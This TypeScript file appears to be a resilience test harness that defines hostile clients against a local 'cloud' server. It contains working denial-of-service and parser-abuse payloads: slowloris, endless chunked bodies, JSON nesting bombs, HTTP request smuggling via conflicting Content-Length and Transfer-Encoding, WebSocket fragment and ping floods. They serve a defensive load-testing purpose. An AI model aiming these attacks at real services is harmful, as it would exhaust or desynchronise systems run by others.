import { connect as connectPlain, type Socket } from 'node:net';
import { connect as connectSecure, type SecureContext } from 'node:tls';
import { clientFrame, upgradeRequest } from '../load/frames.ts';
import type { Identity } from '../load/registration-requests.ts';

export interface Victim {
  readonly host: string;
  readonly securePort: number;
  readonly plainPort: number;
  readonly secureContext: SecureContext;
  /** Of an operator who streams events and does not read them. */
  readonly token: string;
  /** Of devices that hold good keys and mean no good. */
  readonly identities: readonly Identity[];
}

/** One kind of hostile client: how many of them there are at once, and what each does with its connection. */
export interface Attack {
  readonly name: string;
  readonly clients: number;
  /** Where they come from, so that not all of them share one address. */
  readonly from: string;
  readonly listener: 'https' | 'http';
  /** TCP alone, without the TLS handshake. */
  readonly bare?: boolean;
  /** Whether they read what comes; only those hear that they were sent away, and come again. */
  readonly reads?: boolean;
  readonly act: (socket: Socket, victim: Victim, index: number) => void;
}

/** A fresh connection of this kind. */
export function attackWith({ bare, from, listener, reads }: Attack, victim: Victim): Socket {
  const secure = listener === 'https' && bare !== true;
  const port = listener === 'https' ? victim.securePort : victim.plainPort;
  const raw = connectPlain({ host: victim.host, port, localAddress: from, allowHalfOpen: true });
  raw.on('error', () => undefined);
  const socket = secure ? connectSecure({ socket: raw, secureContext: victim.secureContext }) : raw;
  socket.on('error', () => undefined);
  if (reads === true) socket.resume().once('end', () => socket.destroy());
  return socket;
}

/** Repeats while the connection lives, and only as fast as the other end takes it. */
function repeat(socket: Socket, everyMs: number, bytes: Buffer | string): void {
  const timer = setInterval(() => {
    if (socket.destroyed) clearInterval(timer);
    else if (!socket.writableNeedDrain) socket.write(bytes);
  }, everyMs);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

const json = 'Host: cloud\r\nContent-Type: application/json\r\n';
const provision = `POST /api/v1/devices/provision HTTP/1.1\r\n${json}`;
const bomb = `{"provisioning_code":"x","hardware_info":${'{"__proto__x":['.repeat(900)}1${']}'.repeat(900)}}`;
const dribbled = '1\r\n \r\n'.repeat(16_000);
const pingFlood = Buffer.concat(Array.from({ length: 400 }, () => maskedText('{"type":"ping"}')));
const emptyPieces = Buffer.concat([
  Buffer.from([0x01, 0x80, 0, 0, 0, 0]),
  ...Array.from({ length: 400 }, () => Buffer.from([0x00, 0x80, 0, 0, 0, 0])),
]);

export const attacks: readonly Attack[] = [
  {
    name: 'TCP sockets that send nothing to the TLS port',
    ...{ clients: 10_000, from: '127.0.0.2', listener: 'https', bare: true, reads: true },
    act: () => undefined,
  },
  {
    name: 'TLS handshakes that stop half way',
    ...{ clients: 500, from: '127.0.0.3', listener: 'https', bare: true, reads: true },
    act: (socket) => socket.write(Buffer.from('16030100f0010000ec0303', 'hex')),
  },
  {
    name: 'tunnels that never authenticate',
    ...{ clients: 2_500, from: '127.0.0.4', listener: 'http', reads: true },
    act: (socket) => socket.write(upgradeRequest('cloud')),
  },
  {
    name: 'tunnels with keys that are none',
    ...{ clients: 50, from: '127.0.0.5', listener: 'https', reads: true },
    act: (socket, _, index) => {
      socket.write(upgradeRequest('cloud'));
      const device_id = `dev_${String(index).padStart(16, '0')}`;
      socket.write(clientFrame(JSON.stringify({ type: 'connect', device_id, api_key: 'x'.repeat(60) })));
    },
  },
  {
    name: 'headers byte by byte (slowloris)',
    ...{ clients: 500, from: '127.0.0.6', listener: 'https' },
    act: (socket) => {
      socket.write('GET /healthz HTTP/1.1\r\nHost: cloud\r\nX: ');
      repeat(socket, 1_000, 'x');
    },
  },
  {
    name: 'bodies in chunks of one byte that never end',
    ...{ clients: 300, from: '127.0.0.6', listener: 'http', reads: true },
    act: (socket) => socket.write(`${provision}Transfer-Encoding: chunked\r\n\r\n${dribbled}`),
  },
  {
    name: 'pipelined requests for large answers that are not read',
    ...{ clients: 200, from: '127.0.0.7', listener: 'http' },
    act: (socket) => {
      socket.pause();
      socket.write('GET /docs/static/swagger-ui-bundle.js HTTP/1.1\r\nHost: cloud\r\n\r\n'.repeat(12));
    },
  },
  {
    name: 'JSON bombs',
    ...{ clients: 20, from: '127.0.0.7', listener: 'https', reads: true },
    act: (socket) => {
      repeat(socket, 500, `${provision}Content-Length: ${String(bomb.length)}\r\n\r\n${bomb}`);
    },
  },
  {
    name: 'requests that can be read in two ways',
    ...{ clients: 20, from: '127.0.0.7', listener: 'http', reads: true },
    act: (socket) =>
      socket.write(`${provision}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`),
  },
  {
    name: 'sockets that hang up their half and stay',
    ...{ clients: 300, from: '127.0.0.8', listener: 'http' },
    act: (socket) => {
      socket.pause();
      socket.end('GET /api/v1/openapi.json HTTP/1.1\r\nHost: cloud\r\n\r\n');
    },
  },
  {
    name: 'messages in endless pieces',
    ...{ clients: 50, from: '127.0.0.8', listener: 'http', reads: true },
    act: (socket) => {
      socket.write(Buffer.concat([upgradeRequest('cloud'), emptyPieces]));
      repeat(socket, 200, emptyPieces.subarray(6));
    },
  },
  {
    name: 'devices that flood pings and read nothing',
    ...{ clients: 20, from: '127.0.0.1', listener: 'https' },
    act: (socket, { identities }, index) => {
      const frame = JSON.stringify({
        type: 'connect',
        ...identities[index % identities.length],
        version: '0',
      });
      socket.write(Buffer.concat([upgradeRequest('cloud'), clientFrame(frame)]));
      repeat(socket, 100, pingFlood);
    },
  },
  {
    name: 'event streams that are not read',
    ...{ clients: 50, from: '127.0.0.1', listener: 'http' },
    act: (socket, { token }) => {
      socket.pause();
      socket.write(
        `GET /api/v1/events HTTP/1.1\r\nHost: cloud\r\nX-API-Key: ${token}\r\nLast-Event-ID: 0\r\n\r\n`,
      );
    },
  },
];

/** A short text frame under a mask of zeros. */
function maskedText(text: string): Buffer {
  return Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)]);
}
